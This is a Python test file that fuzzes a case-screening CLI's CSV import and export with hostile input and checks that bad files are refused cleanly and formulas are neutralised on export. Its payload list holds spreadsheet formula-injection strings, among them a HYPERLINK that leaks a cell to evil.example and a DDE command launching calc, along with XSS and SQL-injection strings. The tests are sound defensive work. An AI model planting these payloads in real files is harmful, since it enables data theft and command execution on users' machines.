"""Hostile and broken input, fuzzed with hypothesis through the real CLI:
wrong encodings, byte-order marks, NUL bytes, huge cells, formula-injection
and HTML in every column, duplicate, missing and unknown headers. Each file
is either refused with a clear error (exit 1, "Error: ...", no traceback)
and nothing written, or stored whole and as typed. And what goes out as CSV
never reaches a spreadsheet as a formula."""

from __future__ import annotations

import csv
import io
import json
from itertools import count

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

# Cells that attack a spreadsheet, a browser or a parser.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "x\x00y",
    "\x00",
    "\ufeffyes",
    "yes\u202e",
    "'",
    '"',
    "a" * 1_000_000,
    "b" * 131_073,
    "y" * 5000,
    "DUD-001\nDUD-002",
    "yes,no",
    "Robert'); DROP TABLE cases;--",
    "unanswered",
    "unknown",
    "",
    " ",
]
ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "latin-1", "cp1252"]

hostile_text = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(max_size=40),
    st.text(st.characters(codec="latin-1"), max_size=40),
)
_refs = count(1)


def _counts(query) -> tuple:
    return tuple(
        query(f"SELECT count(*) FROM {table}")[0][0]
        for table in ("cases", "screening", "answer", "change_log")
    )


def _to_bytes(header: list[str], rows: list[dict[str, str]], encoding: str) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(header)
    for row in rows:
        writer.writerow([row.get(column, "") for column in header])
    return buffer.getvalue().encode(encoding, errors="replace")


def _assert_refused_or_stored(result, query, before, rows) -> None:
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    if result.exit_code == 0:
        refs = {r["case_ref"].strip() for r in rows}
        stored = {ref for (ref,) in query("SELECT case_ref FROM cases")}
        assert refs <= stored
        assert _counts(query)[0] == before[0] + len(rows)
    else:
        assert result.exit_code == 1, result.output
        assert result.stderr.startswith("Error: "), result.stderr[:500]
        assert len(result.stderr) < 200_000  # a problem list, not the file echoed back
        assert _counts(query) == before


FUZZ = settings(
    max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


@FUZZ
@given(data=st.data(), encoding=st.sampled_from(ENCODINGS), bom=st.booleans())
def test_a_hostile_cell_anywhere_is_refused_or_stored_as_typed(
    data, encoding, bom, altar, tmp_path, spec, valid_row, query
):
    header = spec.case_columns + spec.items
    rows = [valid_row(f"FZ-{next(_refs)}") for _ in range(3)]
    for _ in range(data.draw(st.integers(1, 3), label="hostile cells")):
        row = data.draw(st.sampled_from(rows))
        row[data.draw(st.sampled_from(header), label="column")] = data.draw(
            hostile_text, label="text"
        )
    content = _to_bytes(header, rows, encoding)
    if bom and encoding == "utf-8":
        content = b"\xef\xbb\xbf" + content
    path = tmp_path / "hostile.csv"
    path.write_bytes(content)
    before = _counts(query)
    _assert_refused_or_stored(altar("import", path), query, before, rows)


header_changes = st.sampled_from(["duplicate", "drop", "unknown", "blank", "hostile", "reorder"])


@FUZZ
@given(data=st.data(), changes=st.lists(header_changes, min_size=1, max_size=3))
def test_a_broken_header_is_refused_or_harmless(
    data, changes, altar, tmp_path, spec, valid_row, query
):
    header = spec.case_columns + spec.items
    for change in changes:
        column = data.draw(st.sampled_from(header), label="column")
        if change == "duplicate":
            header = header + [column]
        elif change == "drop":
            header = [h for h in header if h != column]
        elif change == "unknown":
            header = header + ["notes"]
        elif change == "blank":
            header = header + [""]
        elif change == "hostile":
            header = [data.draw(hostile_text, label="header") if h == column else h for h in header]
        else:
            header = list(reversed(header))
    rows = [valid_row(f"FZ-{next(_refs)}") for _ in range(2)]
    path = tmp_path / "header.csv"
    path.write_bytes(_to_bytes(header, rows, "utf-8"))
    before = _counts(query)
    _assert_refused_or_stored(altar("import", path), query, before, rows)


@FUZZ
@given(garbage=st.binary(max_size=2000), position=st.integers(0, 10_000))
def test_random_bytes_spliced_into_a_file_are_refused_or_harmless(
    garbage, position, altar, tmp_path, spec, valid_row, query
):
    rows = [valid_row(f"FZ-{next(_refs)}") for _ in range(3)]
    content = _to_bytes(spec.case_columns + spec.items, rows, "utf-8")
    position = min(position, len(content))
    path = tmp_path / "spliced.csv"
    path.write_bytes(content[:position] + garbage + content[position:])
    before = _counts(query)
    result = altar("import", path)
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    if result.exit_code != 0:
        assert result.exit_code == 1 and result.stderr.startswith("Error: "), result.output[:500]
        assert _counts(query) == before
    else:  # the bytes landed somewhere harmless (say a blank line): every row of the file is stored
        assert _counts(query)[0] - before[0] == len(rows)


@pytest.mark.parametrize("payload", ["x\x00y", "a" * 1_000_000, "\r=1"])
def test_a_case_rejected_late_in_a_file_leaves_no_earlier_row(
    payload, altar, tmp_path, spec, valid_row, write_csv, query, assert_user_error
):
    rows = [
        valid_row(f"LATE-{i}") for i in range(2500)
    ]  # more than one chunk is written before the bad row
    rows[-1]["ace_sexual_abuse"] = payload
    before = _counts(query)
    assert_user_error(
        altar("import", write_csv(tmp_path / "late.csv", rows)), "nothing was imported", exit_code=1
    )
    assert _counts(query) == before


def test_utf16_and_latin1_files_are_refused_by_name(
    altar, tmp_path, spec, valid_row, write_csv, query, assert_user_error
):
    rows = [valid_row("ENC-1")]
    utf16 = write_csv(tmp_path / "u16.csv", rows, encoding="utf-16")
    assert_user_error(altar("import", utf16), "UTF-16", "CSV UTF-8", exit_code=1)
    bare = write_csv(tmp_path / "u16le.csv", rows, encoding="utf-16-le")
    assert_user_error(altar("import", bare), "NUL", "CSV UTF-8", exit_code=1)
    latin = write_csv(tmp_path / "latin.csv", [valid_row("ENC-2", sex="mâle")], encoding="latin-1")
    assert_user_error(altar("import", latin), "row 2 is not UTF-8", exit_code=1)
    assert _counts(query)[0] == 0


def test_a_million_character_cell_gets_a_plain_error(
    altar, tmp_path, valid_row, write_csv, assert_user_error
):
    path = write_csv(tmp_path / "huge.csv", [valid_row("BIG-1", ace_sexual_abuse="x" * 1_000_000)])
    result = altar("import", path)
    assert_user_error(result, "row 2", "longer than", exit_code=1)
    assert len(result.stderr) < 500


def test_a_non_utf8_form_file_is_refused_not_a_traceback(altar, tmp_path, assert_user_error, query):
    assert (
        altar("case", "add", "F-1", "--authority", "dudley", "--stratum", "custody").exit_code == 0
    )
    form = tmp_path / "form.txt"
    form.write_bytes("ace_physical_abuse: oui, très\n".encode("latin-1"))
    assert_user_error(
        altar("screening", "enter", "F-1", "--from", form), "form.txt is not UTF-8", exit_code=1
    )
    assert query("SELECT count(*) FROM answer") == [(0,)]


# --- free text stored inertly, and neutralised on the way out ------------------------

FORMULAS = ['=HYPERLINK("http://evil.example","x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@FUZZ
@given(name=hostile_text)
def test_an_authority_name_is_stored_as_typed_or_refused(name, altar, query):
    code = f"fz_{next(_refs)}"
    before = query("SELECT count(*) FROM authority")
    result = altar(
        "authority", "add", "--note", name, "--", code, name
    )  # -- : a name may start with -
    assert "Traceback" not in result.output
    stored = query("SELECT name, note FROM authority WHERE code = ?", (code,))
    if result.exit_code == 0:
        assert stored == [(" ".join(name.split()), name)]
    else:
        assert result.exit_code == 1 and result.stderr.startswith("Error: "), result.output
        assert stored == [] and query("SELECT count(*) FROM authority") == before


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_stored_formula_is_neutralised_in_every_csv_export(formula, altar, query, read_csv):
    assert (
        altar("case", "add", "INJ-1", "--authority", "dudley", "--stratum", "custody").exit_code
        == 0
    )
    # A value the toolkit would not accept today, as another tool or an older
    # version could have left it: export must still make it harmless.
    query("UPDATE screening SET screened_by = ?", (formula,))
    exported = altar("export", "--format", "csv")
    assert exported.exit_code == 0, exported.output
    header, row = read_csv(exported.stdout)
    assert row[header.index("screened_by")] == "'" + formula
    listed = altar("case", "list", "--format", "csv")
    assert formula not in {cell for line in read_csv(listed.stdout) for cell in line}
    as_json = json.loads(altar("export", "--format", "json").stdout)
    assert (
        as_json["cases"][0]["screened_by"] == formula
    )  # JSON is data, not a spreadsheet: as stored


def test_an_authority_named_like_a_formula_is_neutralised_in_csv_and_escaped_nowhere_else(
    altar, read_csv
):
    name = '=HYPERLINK("http://evil.example","<b>x</b>")'
    assert altar("authority", "add", "evil_town", name).exit_code == 0
    rows = read_csv(altar("authority", "list", "--format", "csv").stdout)
    assert [r[1] for r in rows if r[0] == "evil_town"] == ["'" + name]
    listed = json.loads(altar("authority", "list", "--format", "json").stdout)
    assert [a["name"] for a in listed if a["code"] == "evil_town"] == [name]


@pytest.mark.parametrize(
    "command",
    [
        ("story", "edit", "F-1", "--from-file"),
        ("penpicture", "add", "F-1", "--title", "A title", "--from-file"),
    ],
)
def test_a_non_utf8_story_or_pen_picture_file_is_refused_not_a_traceback(
    altar, tmp_path, assert_user_error, query, command
):
    assert (
        altar("case", "add", "F-1", "--authority", "dudley", "--stratum", "custody").exit_code == 0
    )
    text = tmp_path / "text.md"
    text.write_bytes("## Education\n\nExclu à neuf ans.\n".encode("latin-1"))
    assert_user_error(altar(*command, text), "text.md is not UTF-8", exit_code=1)
    assert query(
        "SELECT (SELECT count(*) FROM story_version) + (SELECT count(*) FROM pen_picture)"
    ) == [(0,)]
